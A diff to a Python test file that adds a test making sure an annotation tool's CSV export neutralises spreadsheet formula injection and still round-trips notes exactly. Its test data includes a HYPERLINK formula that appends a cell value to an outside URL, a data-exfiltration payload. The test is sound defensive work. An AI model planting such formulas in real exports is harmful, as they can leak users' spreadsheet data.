@@ -1,5 +1,6 @@
 """What readers decided: nothing is lost to a second process, a crash or an undo."""
 
+import csv
 import json
 import os
 import stat
@@ -274,6 +275,22 @@ def test_csv_goes_out_and_comes_back_once(tmp_path):
     assert current(tmp_path / "b")[content].equals(current(tmp_path / "a")[content])
     assert import_csv(tmp_path / "b", file, reader="carl") == {"added": 2, "known": 0}
     assert export_csv(tmp_path / "b", file, reader="carl") == 2
+
+
+FORMULA = '=HYPERLINK("http://example.org/"&A1,"open")'
+
+
+def test_an_export_holds_no_formula_and_comes_back_exactly(tmp_path):
+    notes = (FORMULA, f"'{FORMULA}", "'t Hooft", "-1", "a\r=1+1", "\t@SUM(1)")
+    for number, note in enumerate(notes):
+        judge(tmp_path / "a", "ann", DATA, f"+{number}", "hard", None, note)
+    export_csv(tmp_path / "a", file := tmp_path / "verdicts.csv")
+    with open(file, newline="", encoding="utf-8") as text:
+        rows = list(csv.reader(text))
+    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r"))]
+    assert import_csv(tmp_path / "b", file) == {"added": len(notes), "known": 0}
+    assert current(tmp_path / "b")[["image_id", "note"]].equals(current(tmp_path / "a")[["image_id", "note"]])
+    assert current(tmp_path / "b")["note"].tolist() == list(notes)
 
 
 def test_an_imported_verdict_keeps_its_time_and_user_and_names_who_imported_it(tmp_path, monkeypatch):
